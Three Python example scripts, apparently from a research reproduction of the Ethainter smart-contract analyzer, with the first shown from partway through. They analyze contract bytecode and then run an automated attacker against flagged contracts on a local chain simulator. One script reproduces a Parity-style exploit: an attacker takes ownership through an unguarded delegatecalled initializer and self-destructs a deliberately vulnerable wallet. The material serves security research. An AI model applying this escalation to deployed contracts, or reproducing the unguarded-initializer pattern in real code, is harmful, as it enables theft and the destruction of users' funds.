    print("Victim deployed at 0x%040x holding %d wei" % (victim, chain.state.get_balance(victim)))

    # A naive direct attack bounces off the onlyAdmins guard.
    attacker = 0xBAD
    chain.fund(attacker, 10**18)
    direct = chain.transact(attacker, victim, contract.calldata("kill"))
    print("direct kill() by attacker: %s" % ("succeeded" if direct.success else "reverted"))

    # Ethainter sees through the guards: referAdmin lets any *user* mint
    # admins, and registerSelf lets anyone become a user.
    result = analyze_bytecode(contract.runtime)
    print("\nEthainter findings:")
    for warning in result.warnings:
        print("  [%s] %s" % (warning.kind, warning.detail))
    print(
        "compromised guards: %d of %d; attacker-writable mappings: %s"
        % (
            len(result.taint.compromised_guards),
            len(result.guards.guards),
            sorted(result.taint.writable_mappings),
        )
    )

    # Ethainter-Kill plans and executes the composite escalation.
    killer = EthainterKill(chain)
    outcome = killer.attack(victim, result)
    print("\nEthainter-Kill plan:")
    for call in outcome.plan:
        print("  call selector 0x%08x  (%s)" % (call.selector, call.purpose))
    print(
        "destroyed=%s in %d transaction(s); contract code now %d bytes"
        % (
            outcome.destroyed,
            outcome.transactions_sent,
            len(chain.state.get_code(victim)),
        )
    )


if __name__ == "__main__":
    main()
