"""Blockchain-scale sweep: the paper's §6.2 statistics experiment in miniature.

Generates a labeled corpus (the stand-in for the 240K-contract mainnet
snapshot), analyzes every contract, and prints the per-vulnerability flag
percentages and ETH-held table, then deploys the flagged contracts on the
chain simulator and lets Ethainter-Kill attack them (the §6.1 experiment).

Run with::

    python examples/blockchain_sweep.py [corpus-size]
"""

import sys
from collections import defaultdict

from repro import analyze_bytecode
from repro.chain import Blockchain
from repro.core.vulnerabilities import VULNERABILITY_KINDS
from repro.corpus import generate_corpus
from repro.kill import EthainterKill


def main(size: int = 300) -> None:
    print("generating %d-contract corpus ..." % size)
    corpus = generate_corpus(size, seed=2020)

    flagged_by_kind = defaultdict(list)
    eth_by_kind = defaultdict(int)
    results = {}
    for contract in corpus:
        result = analyze_bytecode(contract.runtime)
        results[contract.index] = result
        for kind in {w.kind for w in result.warnings}:
            flagged_by_kind[kind].append(contract)
            eth_by_kind[kind] += contract.eth_held

    print("\n%-32s %10s %16s" % ("Vulnerability", "Flagged", "ETH held (wei)"))
    for kind in VULNERABILITY_KINDS:
        contracts = flagged_by_kind.get(kind, [])
        print(
            "%-32s %9.2f%% %16d"
            % (kind, 100.0 * len(contracts) / size, eth_by_kind.get(kind, 0))
        )

    # Precision against ground truth (the corpus substitutes labels for the
    # paper's manual inspection).
    true_positive = false_positive = 0
    for kind, contracts in flagged_by_kind.items():
        for contract in contracts:
            if kind in contract.labels:
                true_positive += 1
            else:
                false_positive += 1
    total = true_positive + false_positive
    if total:
        print(
            "\noverall precision vs ground truth: %.1f%% (%d/%d warnings)"
            % (100.0 * true_positive / total, true_positive, total)
        )

    # §6.1: attack every contract flagged for a selfdestruct vulnerability.
    chain = Blockchain()
    deployer = 0xD0_0D
    chain.fund(deployer, 10**24)
    killer = EthainterKill(chain)
    targets = []
    for contract in corpus:
        result = results[contract.index]
        if not any(
            w.kind in ("accessible-selfdestruct", "tainted-selfdestruct")
            for w in result.warnings
        ):
            continue
        args = [deployer] * (
            len(contract.compiled.ast.constructor.params)
            if contract.compiled.ast.constructor
            else 0
        )
        receipt = chain.deploy(deployer, contract.compiled.init_with_args(*args))
        if receipt.success:
            targets.append((receipt.contract_address, result))
    report = killer.attack_many(targets)
    print(
        "\nEthainter-Kill: destroyed %d of %d flagged contracts (%.1f%%)"
        % (report.destroyed, report.flagged, 100.0 * report.kill_rate)
    )


if __name__ == "__main__":
    main(int(sys.argv[1]) if len(sys.argv) > 1 else 300)
