"""The Parity wallet hack shape (§1, §6.2), end to end.

A thin Wallet proxy delegates its logic to a shared WalletLibrary.  The
library's ``initWallet`` is public and unguarded — the $280M bug: anyone can
call it *through the proxy*, and because ``delegatecall`` executes the
library's code against the *wallet's* storage, the attacker becomes the
wallet's owner, then drains/destroys it.

The paper notes "Ethainter correctly flags the Parity hack": the library
bytecode exhibits tainted-owner + accessible/tainted selfdestruct.  This
script shows both the static findings and the live exploit on the chain
simulator.

Run with::

    python examples/parity_hack.py
"""

from repro import analyze_bytecode, compile_source
from repro.chain import Blockchain
from repro.minisol.abi import decode_word

WALLET_LIBRARY = """
contract WalletLibrary {
    address walletOwner;
    uint256 dailyLimit;

    function initWallet(address newOwner, uint256 limit) public {
        walletOwner = newOwner;
        dailyLimit = limit;
    }

    function execute(address to, uint256 amount) public {
        require(msg.sender == walletOwner);
        transfer(to, amount);
    }

    function kill(address beneficiary) public {
        require(msg.sender == walletOwner);
        selfdestruct(beneficiary);
    }
}
"""

# The proxy keeps its library address *after* the owner/limit slots so the
# delegatecalled library writes land on the wallet's owner slot, exactly as
# in the original incident.
WALLET_PROXY = """
contract Wallet {
    address walletOwner;
    uint256 dailyLimit;
    address lib;

    constructor(address library) { lib = library; }

    function init(address newOwner, uint256 limit) public {
        delegatecall(lib, "initWallet(address,uint256)", newOwner, limit);
    }
    function run(address to, uint256 amount) public {
        delegatecall(lib, "execute(address,uint256)", to, amount);
    }
    function close(address beneficiary) public {
        delegatecall(lib, "kill(address)", beneficiary);
    }
}
"""


def main() -> None:
    chain = Blockchain()
    deployer, victim_user, attacker = 0xD00D, 0x900D, 0xBAD
    for account in (deployer, victim_user, attacker):
        chain.fund(account, 10**18)

    library = compile_source(WALLET_LIBRARY)
    library_address = chain.deploy(deployer, library.init_with_args()).contract_address
    proxy = compile_source(WALLET_PROXY)
    wallet_address = chain.deploy(
        victim_user, proxy.init_with_args(library_address)
    ).contract_address

    # The legitimate user initializes their wallet and deposits funds.
    chain.transact(victim_user, wallet_address, proxy.calldata("init", victim_user, 100))
    chain.transact(victim_user, wallet_address, b"", value=10**17)
    print(
        "wallet at 0x%040x initialized by 0x%x, balance %d wei"
        % (wallet_address, victim_user, chain.state.get_balance(wallet_address))
    )
    print("wallet owner slot: 0x%x" % chain.state.get_storage(wallet_address, 0))

    # Static analysis of the library flags the whole class.
    result = analyze_bytecode(library.runtime)
    print("\nEthainter on WalletLibrary:")
    for warning in sorted({w.kind for w in result.warnings}):
        print("  [%s]" % warning)

    # The attack: re-initialize the wallet through the proxy, then destroy.
    print("\nattacker 0x%x re-initializes the wallet through the proxy ..." % attacker)
    chain.transact(attacker, wallet_address, proxy.calldata("init", attacker, 10**30))
    print("wallet owner slot now: 0x%x" % chain.state.get_storage(wallet_address, 0))
    balance_before = chain.state.get_balance(attacker)
    receipt = chain.transact(attacker, wallet_address, proxy.calldata("close", attacker))
    print(
        "close() succeeded=%s, wallet destroyed=%s, attacker gained %d wei"
        % (
            receipt.success,
            chain.state.is_destroyed(wallet_address),
            chain.state.get_balance(attacker) - balance_before,
        )
    )


if __name__ == "__main__":
    main()
